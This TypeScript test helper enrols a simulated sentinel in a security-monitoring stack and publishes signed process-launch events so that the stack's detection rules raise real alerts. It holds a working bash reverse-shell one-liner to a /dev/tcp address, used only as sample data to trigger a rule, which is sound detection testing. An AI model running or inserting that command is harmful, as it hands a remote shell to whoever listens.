// Test-only: a sentinel of a secure local stack, enrolled with trust by the stack's sentinel/* join
// token and on its own bus connection, that publishes process launches to TELEMETRY as signed
// EventBatches the way the real sentinel does, so the shipped rules raise real alerts.
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { connectBus, identityNatsOptions, publish, subjects, type Bus } from '@omega/bus';
import { Event, EventBatch } from '@omega/proto';
import { createLogger } from '@omega/runtime';
import {
  bootstrapChannelCredentials,
  enroll,
  joinTokenFromFile,
  signEventBatch,
  type Credentials,
} from '@omega/trust-client';

/** A command line the shipped Sigma rule for a shell on a TCP socket matches (a HIGH alert). */
export const REVERSE_SHELL_COMMAND = 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1';

export class TelemetrySentinel {
  private readonly sessionId = randomUUID();
  private sequence = 0n;

  private constructor(
    private readonly credentials: Credentials,
    private readonly bus: Bus,
    readonly node: string,
  ) {}

  /**
   * Enrolls as sentinel `node` with the trust of the stack whose data is in `dataDir` (its join
   * tokens and CA in `<dataDir>/trust/keys`) and connects to its nats-server at `natsUrl`.
   */
  static async enroll(options: {
    dataDir: string;
    trustAddress: string;
    natsUrl: string;
    node: string;
  }): Promise<TelemetrySentinel> {
    const keys = join(options.dataDir, 'trust', 'keys');
    const caPem = readFileSync(join(keys, 'trust-ca.pem'), 'utf8');
    const tokens = readFileSync(join(keys, 'join-tokens'), 'utf8');
    const joinToken = joinTokenFromFile(tokens, 'sentinel', '*');
    if (joinToken === undefined) throw new Error(`no sentinel/* join token in ${keys}`);
    const credentials = await enroll({
      trustAddress: options.trustAddress,
      subjectKind: 'sentinel',
      name: options.node,
      joinToken,
      channelCredentials: bootstrapChannelCredentials(caPem),
    });
    const clientCertificate = {
      certificatePem: credentials.certificateChainPem,
      privateKeyPem: credentials.tlsPrivateKey.export({ format: 'pem', type: 'pkcs8' }).toString(),
    };
    const bus = await connectBus({
      servers: options.natsUrl,
      name: `spec-sentinel-${options.node}`,
      logger: createLogger({ service: 'spec', level: 'silent' }),
      natsOptions: identityNatsOptions({
        caPem,
        identity: { kind: 'sentinel', name: options.node },
        clientCertificate: () => clientCertificate,
      }),
    });
    return new TelemetrySentinel(credentials, bus, options.node);
  }

  /**
   * Publishes one launch of `commandLine` on this node, in `pod` of namespace `clients` when given.
   * Alerts are folded per (rule, entity) per minute: a new pod is a new alert.
   */
  async launch(commandLine: string, pod?: string): Promise<void> {
    const nowNs = BigInt(Date.now()) * 1_000_000n;
    const launched = {
      pid: 4242,
      uid: `${this.node}:4242:${nowNs}`,
      name: 'bash',
      executablePath: '/usr/bin/bash',
      args: commandLine.split(' '),
      cmdLine: commandLine,
      startTimeNs: String(nowNs),
      user: { posixUid: 0, posixGid: 0 },
      parent: { pid: 4200, name: 'sh', executablePath: '/bin/sh' },
    };
    // As the sentinel writes a launch (test-corpus/demo/process-events.ndjson has real ones).
    const event = Event.fromJSON({
      id: randomUUID(),
      timeNs: String(nowNs),
      classUid: 'EVENT_CLASS_PROCESS_ACTIVITY',
      severity: 'SEVERITY_INFORMATIONAL',
      message: 'exec /usr/bin/bash (pid 4242, ppid 4200)',
      actor: { process: launched, user: { posixUid: 0, posixGid: 0 } },
      node: this.node,
      ...(pod ? { workload: { namespace: 'clients', pod } } : {}),
      processActivity: { activityId: 'PROCESS_ACTIVITY_ID_LAUNCH', process: launched },
    });
    const sequence = ++this.sequence;
    const batch = EventBatch.fromPartial({
      sender: { id: this.credentials.subject, keyId: this.credentials.signer.keyId },
      sessionId: this.sessionId,
      sequence,
      createdTimeNs: nowNs,
      events: [event],
    });
    const signed = signEventBatch(this.credentials.signer, batch);
    // The signed bytes as produced, never a re-encoding.
    const asSigned = {
      $type: EventBatch.$type,
      encode: () => ({ finish: () => signed }),
      decode: EventBatch.decode,
    };
    await publish(this.bus, subjects.telemetry('process', this.node), asSigned, batch, {
      msgId: `${this.credentials.subject}:${this.sessionId}:${sequence}`,
    });
  }

  async close(): Promise<void> {
    await this.bus.drain();
  }
}
